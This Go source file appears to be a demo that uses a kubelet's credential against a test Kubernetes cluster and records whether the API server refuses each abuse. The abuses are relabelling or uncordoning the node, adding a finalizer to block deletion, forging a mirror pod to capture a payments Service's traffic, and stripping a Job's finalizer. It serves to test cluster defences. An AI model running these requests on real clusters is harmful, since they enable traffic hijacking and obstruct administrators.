package main

import (
	"context"
	"errors"
	"fmt"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
)

// attempt is something that an attacker does with the kubelet's credential.
type attempt struct {
	what    string // in a few words
	request string // as it is sent
	do      func(ctx context.Context, kubelet kubernetes.Interface) error
}

// outcome is what the API server answered. Nil: it did as it was told.
type outcome struct {
	attempt attempt
	refusal error
}

const (
	victims = "payments"   // namespace
	jobPod  = "report-x7k" // of a Job, running on the kubelet's node
)

func attempts(node *corev1.Node) []attempt {
	nodes := "/api/v1/nodes/" + nodeName
	pods := "/api/v1/namespaces/" + victims + "/pods"
	return []attempt{
		mergePatch("label its own Node, to draw pods to itself", nodes, "",
			`{"metadata":{"labels":{"example.com/dedicated":"pci"}}}`),
		mergePatch("uncordon itself, after an administrator's cordon", nodes, "", `{"spec":{"unschedulable":false}}`),
		mergePatch("put a finalizer on its Node, so that an administrator's delete hangs", nodes, "status",
			`{"metadata":{"finalizers":["example.com/stay"]}}`),
		{
			what:    "create a mirror pod labelled like the pods of a Service, to get its traffic",
			request: "POST " + pods + `  labels: {app: payments}`,
			do: func(ctx context.Context, kubelet kubernetes.Interface) error {
				_, err := kubelet.CoreV1().Pods(victims).Create(ctx, mirrorPod(node), metav1.CreateOptions{})
				return err
			},
		},
		mergePatch("strip a Job's finalizer from its pod, so that the Job miscounts", pods+"/"+jobPod, "status",
			`{"metadata":{"finalizers":null}}`),
	}
}

func mergePatch(what, path, subresource, body string) attempt {
	if subresource != "" {
		path += "/" + subresource
	}
	return attempt{what: what, request: "PATCH " + path + "  " + body, do: func(ctx context.Context, kubelet kubernetes.Interface) error {
		return kubelet.CoreV1().RESTClient().Patch(types.MergePatchType).AbsPath(path).Body([]byte(body)).Do(ctx).Error()
	}}
}

// mirrorPod is what only a kubelet can create, named as a kubelet names it.
func mirrorPod(node *corev1.Node) *corev1.Pod {
	controller := true
	return &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{
			Name: "web-" + nodeName, Namespace: victims, Labels: map[string]string{"app": "payments"},
			Annotations: map[string]string{
				corev1.MirrorPodAnnotationKey: "5f1d", "kubernetes.io/config.hash": "5f1d",
				"kubernetes.io/config.source": "file", "kubernetes.io/config.seen": "2026-11-24T08:00:00Z",
			},
			OwnerReferences: []metav1.OwnerReference{{
				APIVersion: "v1", Kind: "Node", Name: nodeName, UID: node.UID, Controller: &controller,
			}},
		},
		Spec: corev1.PodSpec{
			NodeName:   nodeName,
			Containers: []corev1.Container{{Name: "web", Image: "registry.example.com/web"}},
		},
	}
}

// attack sets the stage as an administrator, and then makes every attempt.
func (d *demo) attack(ctx context.Context, title string) ([]outcome, error) {
	admin, err := d.client(d.cluster.Admin)
	if err != nil {
		return nil, err
	}
	kubelet, err := d.client(func() (*rest.Config, error) { return d.cluster.Kubelet(nodeName) })
	if err != nil {
		return nil, err
	}
	node, err := setStage(ctx, admin)
	if err != nil {
		return nil, fmt.Errorf("set the stage: %w", err)
	}
	d.screen.title("%s", title)
	var outcomes []outcome
	for _, a := range attempts(node) {
		err := a.do(ctx, kubelet)
		if err != nil && !apierrors.IsForbidden(err) {
			return nil, fmt.Errorf("%s: %w", a.what, err)
		}
		d.screen.attempt(a, err)
		outcomes = append(outcomes, outcome{a, err})
	}
	return outcomes, nil
}

func (d *demo) client(of func() (*rest.Config, error)) (kubernetes.Interface, error) {
	config, err := of()
	if err != nil {
		return nil, err
	}
	return kubernetes.NewForConfig(config)
}

// setStage undoes what an attacker did before, cordons the Node, and has a pod of a Job on it.
func setStage(ctx context.Context, admin kubernetes.Interface) (*corev1.Node, error) {
	_, err := admin.CoreV1().Namespaces().Create(ctx,
		&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: victims}}, metav1.CreateOptions{})
	if err != nil && !apierrors.IsAlreadyExists(err) {
		return nil, err
	}
	now := int64(0)
	for _, name := range []string{"web-" + nodeName, jobPod} {
		patch := []byte(`{"metadata":{"finalizers":null}}`)
		_, err := admin.CoreV1().Pods(victims).Patch(ctx, name, types.MergePatchType, patch, metav1.PatchOptions{})
		if err == nil {
			err = admin.CoreV1().Pods(victims).Delete(ctx, name, metav1.DeleteOptions{GracePeriodSeconds: &now})
		}
		if err != nil && !apierrors.IsNotFound(err) {
			return nil, err
		}
	}
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: jobPod, Finalizers: []string{"batch.kubernetes.io/job-tracking"}},
		Spec: corev1.PodSpec{
			NodeName:   nodeName,
			Containers: []corev1.Container{{Name: "report", Image: "registry.example.com/report"}},
		},
	}
	if _, err := admin.CoreV1().Pods(victims).Create(ctx, pod, metav1.CreateOptions{}); err != nil {
		return nil, err
	}
	patch := []byte(`{"metadata":{"labels":{"example.com/dedicated":null},"finalizers":null},"spec":{"unschedulable":true}}`)
	node, err := admin.CoreV1().Nodes().Patch(ctx, nodeName, types.MergePatchType, patch, metav1.PatchOptions{})
	if err != nil {
		return nil, err
	}
	if len(node.Finalizers) > 0 {
		return nil, errors.New("the node still has finalizers")
	}
	return node, nil
}
